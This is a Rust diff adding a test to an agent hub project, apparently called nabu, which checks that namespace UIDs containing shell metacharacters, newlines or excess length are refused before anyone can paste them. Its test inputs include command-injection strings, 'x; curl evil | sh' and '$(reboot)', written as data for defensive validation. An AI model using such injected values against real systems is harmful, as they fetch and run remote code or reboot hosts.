@@ -4,7 +4,7 @@
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU32, Ordering};
 
-use anyhow::Result;
+use anyhow::{Result, ensure};
 use bytes::Bytes;
 use nabu_common::canonical::spec_hash;
 use nabu_proto::agent_v1::session_request::Frame;
@@ -152,6 +152,26 @@ async fn a_flood_of_heartbeats_ends_the_session_and_is_written_down_once() -> Re
     assert_eq!(audited, "agent/prod-eu\n");
     serves_others(hub).await?;
     assert_eq!(watched.calls(), 0);
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_no_uid_of_a_namespace_is_refused_before_anybody_pastes_it() -> Result<()> {
+    let hub = hub().await?;
+    let first = welcomed(&hub, "prod-eu").await?;
+    for said in ["x; curl evil | sh", "$(reboot)", "a\nb", &"a".repeat(65)] {
+        let mut liar = Liar::connect(&hub, "prod-eu", hello(said)).await?;
+        let Answer::Goodbye(goodbye) = liar.hear().await? else {
+            anyhow::bail!("{said:?} is let in");
+        };
+        ensure!(goodbye.message.contains("letters, digits and dashes"));
+    }
+    let listed = hub.nabuctl(&["cluster", "list", "-o", "json"])?;
+    ensure!(
+        listed.contains("\"refusedKubeSystemUid\": \"\""),
+        "{listed}"
+    );
+    drop(first);
     Ok(())
 }
 
